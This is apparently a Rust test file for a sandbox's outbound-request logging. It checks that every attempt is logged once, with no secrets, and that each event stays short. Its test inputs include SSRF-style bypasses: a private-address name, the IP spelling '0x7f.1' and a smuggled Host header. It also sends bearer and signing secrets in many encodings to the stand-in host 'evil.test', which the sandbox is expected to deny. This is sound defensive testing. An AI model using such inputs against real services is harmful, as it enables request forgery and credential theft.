//! One event for each attempt, allowed or not, however it ended, without secrets.

use std::time::Duration;

use serde_json::{Value, json};
use stockbridge::egress::{AddressKind, GrantSpec};
use stockbridge::{Account, Limits};
use stockbridge_tests::Log;

use crate::guest::{
    BEARER, Names, SIGNING, account_at, ip, network, observation, observations, opened, query, requesting,
};
use crate::server::{OK, Server};

/// Egress events since the last call, each as a line of its fields.
fn taken(log: &Log) -> Vec<String> {
    let events = log.of_egress();
    log.forget();
    events
}

/// The only event since the last call.
fn one(log: &Log) -> String {
    let mut events = taken(log);
    assert_eq!(events.len(), 1, "{events:#?}");
    events.remove(0)
}

fn holds(event: &str, parts: &[&str]) {
    for part in parts {
        assert!(event.contains(part), "{part} is missing in {event}");
    }
}

/// An account at a server that has a name, with another name that resolves elsewhere.
async fn account_of(server: &Server, limits: Limits) -> Account {
    let port = server.address.port();
    let names = Names::of([("here.test", vec![ip("127.0.0.1")]), ("bad.test", vec![ip("10.0.0.1")])]);
    let granted = |origin: String| GrantSpec::new(origin).addresses([AddressKind::Loopback]);
    let account = account_at(&server.origin())
        .allow(granted(format!("http://bad.test:{port}")))
        .allow(granted("http://127.0.0.1:1".to_owned()))
        .limits(limits);
    opened(account, network(names)).await
}

#[tokio::test]
async fn each_attempt_is_told_once_whether_it_was_allowed_refused_or_met_nobody() {
    let log = Log::listen();
    let server = Server::answering(OK);
    let account = account_of(&server, Limits::default()).await;
    let port = server.address.port();

    observation(&account, json!({})).await;
    holds(
        &one(&log),
        &[
            "DEBUG",
            "account=probe",
            "method=\"GET\"",
            "effect=read",
            "verdict=allowed",
            "reused=false",
            "sent=true",
            "status=200",
        ],
    );
    observation(&account, json!({})).await;
    holds(&one(&log), &["verdict=allowed", "reused=true", &format!("peer=127.0.0.1:{port}")]);
    observation(&account, json!({"url": "http://127.0.0.1:1/"})).await;
    holds(&one(&log), &["verdict=allowed", "sent=false", "error="]);
    for (request, reason) in [
        (json!({"url": "http://evil.test/"}), "was not granted"),
        (json!({"url": format!("http://bad.test:{port}/")}), "a private address"),
        (json!({"url": "http://0x7f.1/"}), "unusual spelling"),
        (json!({"method": "TRACE"}), "the method is none of"),
        (json!({"headers": [["host", ["evil.test"]]]}), "belongs to the host"),
        (json!({"query": ["a b"]}), "not written plainly"),
        (json!({"write": true}), "a read-only operation"),
    ] {
        observation(&account, request).await;
        holds(&one(&log), &["WARN", "verdict=denied", reason]);
    }
    observations(&account, requesting(&json!({"url": "http://evil.test/"}), "request read request read")).await;
    assert_eq!(taken(&log).len(), 5);
}

/// A guest that is stopped at its deadline does not see the end of its request; the log has it.
#[tokio::test]
async fn an_attempt_that_was_given_up_is_told_as_well() {
    let log = Log::listen();
    let server = Server::start(|peer| {
        while peer.request()?.is_some() {}
        Ok(())
    });
    let limits = Limits::default().deadline(Duration::from_millis(800)).in_flight(1);
    let account = account_of(&server, limits).await;
    account.query(query("read spin")).await.unwrap_err();
    holds(&one(&log), &["verdict=allowed", "sent=true", "error="]);

    // Another call waits for the slot that this one holds.
    let other = async {
        tokio::time::sleep(Duration::from_millis(200)).await;
        observation(&account, json!({"timeout": 50})).await;
        holds(&one(&log), &["verdict=allowed", "sent=false", "error=no answer within 50 ms"]);
    };
    let (holding, ()) = tokio::join!(account.query(query("read spin")), other);
    assert!(holding.is_err());
    holds(&one(&log), &["verdict=allowed", "sent=true", "error="]);

    // Its caller drops it.
    let _ = tokio::time::timeout(Duration::from_millis(300), account.query(query("read spin"))).await;
    holds(&one(&log), &["verdict=allowed", "sent=true", "error=given up"]);
}

/// In the header, the query and the body, in every encoding, sent and refused.
#[tokio::test]
async fn no_event_holds_a_secret() {
    let log = Log::listen();
    let server = Server::answering(OK);
    let account = account_of(&server, Limits::default()).await;
    let encodings = ["form", "percent", "json", "hex-lower", "hex-upper", "base64", "base64url"];
    let mut attempts = 0;
    for encoding in encodings.into_iter().map(Some).chain([None]) {
        for secret in ["bearer", "signing"] {
            let piece: Value = match encoding {
                Some(encoding) => json!({"secret": secret, "as": encoding}),
                None => json!({"secret": secret}),
            };
            for request in [
                json!({"query": ["sign=", piece]}),
                json!({"headers": [["authorization", ["Bearer ", piece]]]}),
                json!({"method": "POST", "body": ["{", piece]}),
                json!({"url": "http://evil.test/", "query": [piece], "headers": [["x-a", [piece]]], "body": [piece]}),
            ] {
                observation(&account, request).await;
                attempts += 1;
            }
        }
    }
    let events = taken(&log);
    assert_eq!(events.len(), attempts);
    assert!(events.iter().any(|event| event.contains("status=200")));
    let written = |secret: &str| {
        let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
        // The plain, percent, form and JSON forms contain a word of the secret unchanged; base64 begins with these.
        let start = if secret == BEARER { "YjNhcmVy" } else { "czNjcmV0" };
        [secret.split(' ').next().unwrap().to_owned(), hex.to_uppercase(), hex, start.to_owned()]
    };
    for event in &events {
        for form in [written(BEARER), written(SIGNING)].concat() {
            assert!(!event.contains(&form), "{form} in {event}");
        }
    }
}

/// Whatever a guest writes, an event stays a line of some hundred bytes.
#[tokio::test]
async fn an_event_does_not_grow_with_what_the_guest_writes() {
    let log = Log::listen();
    let account = account_of(&Server::answering(OK), Limits::default()).await;
    let long = "a".repeat(100_000);
    for request in [
        json!({"url": format!("http://evil.test/{long}")}),
        // Cut at its 16th byte, it would be cut within a character.
        json!({"method": format!("{}货{long}", "a".repeat(15))}),
        json!({"capture": [{"name": format!("x\n{long}"), "pointer": ""}]}),
        json!({"headers": [[long, ["1"]]]}),
        json!({"headers": [["x", [long]]]}),
    ] {
        observation(&account, request).await;
        let event = one(&log);
        assert!(event.len() < 1000 && !event.contains('\n'), "{} bytes: {event}", event.len());
    }
}
